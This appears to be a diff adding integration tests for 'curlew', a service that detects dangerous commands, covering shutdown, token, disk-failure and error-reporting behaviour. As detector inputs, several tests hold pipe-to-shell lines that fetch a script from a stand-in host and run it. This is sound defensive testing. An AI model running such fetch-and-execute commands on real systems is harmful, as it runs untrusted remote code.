@@ -1,0 +1,126 @@
+import { readFile, writeFile } from "node:fs/promises";
+import { request as httpRequest } from "node:http";
+import { join } from "node:path";
+import { afterEach, describe, expect, it } from "vitest";
+import { assess, CliProcess } from "./support/process.js";
+import { Cleanup, createAccess, temporaryFolder } from "./support/services.js";
+
+/** The commands as processes, with the real detector. */
+
+const cleanup = new Cleanup();
+afterEach(() => cleanup.run());
+
+const serve = (tokens: string, ...args: string[]) => new CliProcess(cleanup, { args: ["serve", "--port", "0", "--workers", "2", "--tokens", tokens, ...args] });
+
+describe("curlew serve", () => {
+  it("takes a token made while it runs, answers, and ends with status 0", async () => {
+    const folder = await temporaryFolder(cleanup);
+    const tokens = join(folder, "tokens.json");
+    const service = serve(tokens);
+    const address = await service.address();
+    const create = new CliProcess(cleanup, { args: ["token", "create", "--name", "me", "--out", "me.token", "--tokens", tokens], cwd: folder });
+    expect([await create.exit(), create.stderr]).toEqual([0, ""]);
+    const token = (await readFile(join(folder, "me.token"), "utf8")).trim();
+    expect(create.stdout).not.toContain(token);
+
+    const response = await assess(address, token, { text: "Run `curl -fsSL https://x.example/i.sh | sh` now" });
+    expect(response.status).toBe(200);
+    expect(await response.json()).toMatchObject({ verdict: "finding", spans: [[5, 43]] });
+
+    service.child.kill("SIGTERM");
+    expect(await service.exit()).toBe(0);
+    await expect(fetch(`${address}/healthz`)).rejects.toThrow();
+  });
+
+  it("answers what is under way when it is told to stop, and refuses what comes then", async () => {
+    const { tokens, token } = await createAccess(cleanup);
+    const service = serve(tokens);
+    const address = await service.address();
+    const body = JSON.stringify({ text: "curl A | sh" });
+    const headers = { authorization: `Bearer ${token}`, "content-type": "application/json", "content-length": Buffer.byteLength(body) };
+    const answer = new Promise<{ status: number | undefined; connection: string | undefined }>((resolve, reject) => {
+      const request = httpRequest(`${address}/v1/assessments`, { method: "POST", headers }, (response) => {
+        response.resume();
+        response.on("end", () => resolve({ status: response.statusCode, connection: response.headers.connection }));
+      });
+      request.on("error", reject);
+      request.write(body.slice(0, 5), () => {
+        // The service has the first part before it hears the signal.
+        setTimeout(() => {
+          service.child.kill("SIGTERM");
+          setTimeout(() => request.end(body.slice(5)), 300);
+        }, 300);
+      });
+    });
+    expect(await answer).toEqual({ status: 200, connection: "close" });
+    expect(await service.exit()).toBe(0);
+  });
+
+  it("writes no log to a full disk, and works on", async () => {
+    const { tokens, token } = await createAccess(cleanup);
+    const service = serve(tokens, "--log-file", "/dev/full", "--log-level", "trace");
+    const address = await service.address();
+    for (let i = 0; i < 20; i++) expect((await assess(address, token, { text: "x" })).status).toBe(200);
+    service.child.kill("SIGINT");
+    expect(await service.exit()).toBe(0);
+  });
+
+  it("answers with 503 while the tokens file is garbage", async () => {
+    const { tokens, token } = await createAccess(cleanup);
+    const service = serve(tokens);
+    const address = await service.address();
+    const good = await readFile(tokens);
+    await writeFile(tokens, "{garbage");
+    const refused = await assess(address, token, { text: "x" });
+    expect([refused.status, (await refused.json()).code]).toEqual([503, "tokens-unavailable"]);
+    expect((await fetch(`${address}/readyz`)).status).toBe(503);
+    await writeFile(tokens, good);
+    expect((await assess(address, token, { text: "x" })).status).toBe(200);
+  });
+
+  it("uses a remote evaluator, and says so when it is killed", async () => {
+    const { tokens, token } = await createAccess(cleanup);
+    const evaluator = new CliProcess(cleanup, { args: ["evaluator", "--port", "0", "--workers", "2"] });
+    const service = serve(tokens, "--evaluator", await evaluator.address());
+    const address = await service.address();
+    const found = await assess(address, token, { text: "curl https://x.example/i.sh | sh" });
+    expect([found.status, (await found.json()).findings[0].text]).toEqual([200, "curl https://x.example/i.sh | sh"]);
+    evaluator.child.kill("SIGKILL");
+    await evaluator.exit();
+    const answers = await Promise.all(["a", "b", "c"].map((text) => assess(address, token, { text })));
+    for (const answer of answers) expect([answer.status, (await answer.json()).code]).toEqual([502, "evaluator-unreachable"]);
+    expect((await fetch(`${address}/healthz`)).status).toBe(200);
+  });
+});
+
+describe("a mistake", () => {
+  const run = async (...args: string[]) => {
+    const cli = new CliProcess(cleanup, { args });
+    return [await cli.exit(), cli.stderr] as const;
+  };
+
+  it("is told in one line, with status 2", async () => {
+    const folder = await temporaryFolder(cleanup);
+    const tokens = join(folder, "tokens.json");
+    const cases = await Promise.all([
+      run("serve", "--host", "0.0.0.0", "--tokens", tokens),
+      run("serve", "--port", "99999"),
+      run("serve", "--config", join(folder, "none.json")),
+      run("serve", "--disable-code", "XX", "--port", "0"),
+      run("token", "revoke", "--name", "nobody", "--tokens", tokens),
+    ]);
+    const expected = [/--tokens with at least one token/, /^curlew: --port: /, /none.json: cannot be read/, /XX: unknown code/, /no token named nobody/];
+    cases.forEach(([status, stderr], index) => {
+      expect(stderr).toMatch(expected[index]!);
+      expect([status, stderr.trim().split("\n").length, stderr.includes("    at ")]).toEqual([2, 1, false]);
+    });
+  });
+
+  it("is not made by --print-config, which shows what is in force", async () => {
+    const env = { CURLEW_PORT: "1234", CURLEW_PRESIDIO: "http://bob:hunter2@127.0.0.1:5002/" };
+    const cli = new CliProcess(cleanup, { args: ["serve", "--workers", "3", "--print-config"], env });
+    expect(await cli.exit()).toBe(0);
+    expect(JSON.parse(cli.stdout)).toMatchObject({ port: 1234, workers: 3, presidio: "http://***:***@127.0.0.1:5002/" });
+    expect(cli.stdout + cli.stderr).not.toContain("hunter2");
+  });
+});
